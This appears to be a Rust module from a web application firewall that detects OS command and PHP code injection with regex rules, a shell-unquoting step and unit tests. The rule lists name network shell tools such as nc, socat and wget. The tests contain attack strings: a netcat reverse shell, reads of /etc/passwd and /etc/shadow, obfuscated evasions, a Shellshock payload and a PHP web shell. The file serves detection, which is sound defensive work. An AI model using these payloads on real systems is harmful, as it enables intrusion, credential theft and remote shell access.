//! OS command and server-side code injection, by context.
//!
//! A `;`, `&` or `|` alone means nothing: prose is full of them. A rule
//! fires only when a separator is followed by a known command *and* by
//! something shaped like its arguments (an option, a path, a number, a
//! URL, a redirection or the end of the value). Commands that are also
//! English words (`cat`, `more`, `find`) always need that argument shape;
//! words that are only commands (`whoami`, `wget`) may end the value.

use regex::bytes::Regex;

use super::rules::{compile, Hit};
use super::targets::Target;

/// Programs whose names are not everyday words.
const STRONG: &str = "whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|ksh|csh|tcsh|dash|ifconfig|ipconfig|netstat|nslookup|chmod|chown|passwd|sudo|python[23]?|perl|ruby|php|telnet|ls|pwd|id|systeminfo|sysinfo|tasklist|powershell|cmd|cscript|wscript|certutil|bitsadmin|base64|xxd|nohup|crontab|useradd|mkfifo|socat|rm|nmap|hostname|lsof|tftp|ftp|ssh|scp|busybox|uptime|getent|route";

/// Programs whose names are also words, or that are harmless without
/// arguments.
const WEAK: &str = "cat|more|less|find|sort|head|tail|kill|who|last|type|dir|ping|echo|touch|date|time|wc|cut|env|export|exec|eval|grep|awk|sed|tee|dd|tar|cp|mv|mkdir|ps|xargs|timeout|sleep|net|reg|start|print|copy|del|set|uniq|file|stat|strings|od|nl|rev|tac|printf|which|whereis|dig|host|traceroute|tracert";

/// What may follow a command for it to read as a command line.
const ARGS: &str = r#"(?:\s+(?:-{1,2}[a-z0-9]|/|[a-z]:[\\/]|\.{1,2}/|~|\$|\\|['"`]|\d|[a-z]+://|[\w.-]+\.[a-z]{2,4}\b|\*|[<>|;&])|\s*[<>|;&`)]|\$\{?ifs)"#;

pub struct Cmdi {
    rules: Vec<(u32, Regex)>,
}

impl Cmdi {
    pub fn new() -> Result<Cmdi, regex::Error> {
        let bin_prefix = r"(?:(?:/usr)?(?:/local)?/s?bin/)?";
        let sep = r"(?:[;|&]|\$\(|\$\{ifs\}|\$ifs)";
        // A line break separates commands too, but multi-line text (code,
        // tracebacks, addresses) starts lines with words like `file` or
        // `type`: after a line break only option, path or variable
        // arguments count.
        let strict = r"(?:\s+(?:-{1,2}[a-z0-9]|/|\$|~)|[ \t]*[<>|;&`])";
        let eol = r"[ \t]*(?:$|[\n\r])";
        let rules = [
            (
                5001,
                format!(
                    r#"{sep}\s*['"]?\s*{bin_prefix}(?:(?:{STRONG})(?:\.exe)?(?:{ARGS}|{eol})|(?:{WEAK})(?:\.exe)?{ARGS})|(?:[\n\r]|\\[nr])\s*{bin_prefix}(?:(?:{STRONG})(?:\.exe)?(?:{strict}|{eol})|(?:{WEAK})(?:\.exe)?{strict})"#
                ),
            ),
            (
                5002,
                format!(
                    r"\$\(\s*{bin_prefix}(?:{STRONG}|{WEAK})\b|(?:^|\S)`\s*{bin_prefix}(?:{STRONG}|{WEAK})\b[^`]*`|\$\{{?ifs\b|\$\{{(?:path|home|shell|pwd):"
                ),
            ),
            (
                5003,
                r#"(?:^|[;|&`'"(=<>\n])\s*(?:/usr)?(?:/local)?/s?bin/[a-z]|-e\s+/(?:usr/)?bin/|\b(?:ba|z|k|da)?sh\s+-[ci]\b"#.to_owned(),
            ),
            (5004, r"^\s*\(\s*\)\s*\{".to_owned()),
            (
                5005,
                format!(
                    r#"^\s*['"]?\s*{bin_prefix}(?:(?:{STRONG}|{WEAK})\s+(?:-{{1,2}}[a-z]|/[a-z]|\$|[a-z]+://)|(?:whoami|ifconfig|ipconfig|netstat|uname|systeminfo|sysinfo|tasklist)\s*$)"#
                ),
            ),
            (
                5006,
                r#"<\?(?:php|=)|\b(?:system|shell_exec|passthru|popen|proc_open|pcntl_exec|phpinfo|create_function)\s*\(|\b(?:eval|exec|assert)\s*\(\s*['"$]|\$_(?:get|post|request|cookie|server|files)\s*\[|\{\$\{|\$\{@|<!--\s*#\s*exec\b"#.to_owned(),
            ),
            (
                5007,
                r#"\bcmd(?:\.exe)?\s+/[ck]\b|\bpowershell(?:\.exe)?\s+-|(?:^|[;|&`\n])\s*(?:net\s+(?:user|localgroup|view|share)\b|netsh\s+\w|reg\s+(?:add|delete|query)\s|certutil(?:\.exe)?\s+-|bitsadmin\s+/)"#.to_owned(),
            ),
        ];
        let rules = rules
            .into_iter()
            .map(|(id, re)| Ok((id, compile(&re)?)))
            .collect::<Result<_, regex::Error>>()?;
        Ok(Cmdi { rules })
    }

    /// Appends the command-injection rules that match `t`.
    pub fn check(&self, t: &Target, hits: &mut Vec<Hit>) {
        let lower = &t.value.lower;
        if !lower.contains([';', '|', '&', '\n', '\r', '`', '$', '/', '(', '<', '{', ' ']) {
            return;
        }
        let same_offsets = lower.len() == t.value.text.len();
        let unquoted = shell_unquote(lower);
        for (id, re) in &self.rules {
            if let Some(m) = re.find(lower.as_bytes()) {
                let at = if same_offsets {
                    m.range()
                } else {
                    0..t.value.text.len()
                };
                hits.push(Hit::new(*id, at));
            } else if let Some(u) = &unquoted {
                // Offsets in the unquoted copy do not map back: report
                // the whole value.
                if re.is_match(u.as_bytes()) {
                    hits.push(Hit::new(*id, 0..t.value.text.len()));
                }
            }
        }
    }
}

/// The value as a shell would read its words, if that differs: quotes
/// and backslashes inside a word removed (`c''at`, `c\at`, `/e"t"c`),
/// and empty or positional parameter expansions dropped (`c$@at`,
/// `w$1hoami`, `ca${x}t`), which evade matching on command names.
/// `None` when there is nothing to undo, so ordinary values cost one scan.
fn shell_unquote(lower: &str) -> Option<String> {
    if !lower.contains(['\'', '"', '\\', '$']) {
        return None;
    }
    let b = lower.as_bytes();
    let word = |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-');
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        let prev_word = out.last().is_some_and(|&p| word(p));
        match c {
            b'\'' | b'"' | b'\\' => {
                // Drop a quote or backslash that sits inside a word or
                // right before one (`c''at`, `\cat`); keep it elsewhere.
                let next_word = b[i + 1..]
                    .iter()
                    .find(|&&n| !matches!(n, b'\'' | b'"' | b'\\'))
                    .is_some_and(|&n| word(n));
                let inside = next_word && (prev_word || c == b'\\');
                if !inside {
                    out.push(c);
                }
                i += 1;
            }
            b'$' if prev_word => {
                // `$@`, `$*`, `$1`..`$9`, `${x}` inside a word expand to
                // nothing in a non-interactive shell.
                match b.get(i + 1) {
                    Some(b'@' | b'*' | b'0'..=b'9') => i += 2,
                    Some(b'{') => match b[i..].iter().position(|&x| x == b'}') {
                        Some(end) if end <= 16 && !lower[i..i + end].contains("ifs") => {
                            i += end + 1
                        }
                        _ => {
                            out.push(c);
                            i += 1;
                        }
                    },
                    _ => {
                        out.push(c);
                        i += 1;
                    }
                }
            }
            _ => {
                out.push(c);
                i += 1;
            }
        }
    }
    let s = String::from_utf8(out).ok()?;
    (s != lower).then_some(s)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::waf::normalize::{normalize, Source};
    use crate::waf::targets::Location;

    fn ids(raw: &str) -> Vec<u32> {
        let t = Target {
            location: Location::Query,
            name: "host".into(),
            value: normalize(raw.as_bytes(), Source::Form),
        };
        let mut hits = Vec::new();
        Cmdi::new().expect("rules compile").check(&t, &mut hits);
        hits.into_iter().map(|h| h.rule).collect()
    }

    #[test]
    fn separators_followed_by_commands_are_found() {
        for attack in [
            "127.0.0.1;id",
            "127.0.0.1 | cat /etc/passwd",
            "x && whoami",
            "a%0Aid",
            "\\n/usr/bin/id|",
            "&& dir C:\\Users",
            "; ping -c 10 127.0.0.1",
            "|nc -e /bin/sh 10.0.0.1 4444",
            ";sleep${IFS}5",
            "x;c''at%20/e''tc/pa''sswd",
            "x;c\\at /etc/passwd",
            "x;c$@at /etc/passwd",
            "x;w\"h\"oami",
            "x|ca${z}t /etc/shadow",
            "x;cat${IFS}/etc/passwd",
        ] {
            assert!(!ids(attack).is_empty(), "{attack}");
        }
    }

    #[test]
    fn substitutions_and_shellshock_are_found() {
        assert!(ids("$(id)").contains(&5002));
        assert!(ids("x`whoami`").contains(&5002));
        assert!(ids("() { :;}; /bin/bash -c id").contains(&5004));
        assert!(ids("cat /etc/passwd").contains(&5005));
        assert!(ids("<?php system($_GET['c']); ?>").contains(&5006));
        assert!(ids("& cmd /c dir").contains(&5007));
    }

    #[test]
    fn prose_with_separators_and_command_words_is_not_flagged() {
        for text in [
            "Tom & Jerry; cats and dogs | more info",
            "I love cats; cat food is expensive & so are toys",
            "Q&A: find the best sort of pizza",
            "Ben & Jerry's — sleep well; eat well",
            "run `ls -la` in the project folder",
            "$(document).ready(function () { init(); });",
            "https://shop.example/list?page=2&cat=shoes&sort=price",
            "AT&T | Verizon | T-Mobile",
            "Traceback (most recent call last):\n  File \"app.py\", line 3",
            "Dear Ann,\ntime flies; see you soon",
        ] {
            assert!(ids(text).is_empty(), "{text}: {:?}", ids(text));
        }
    }
}
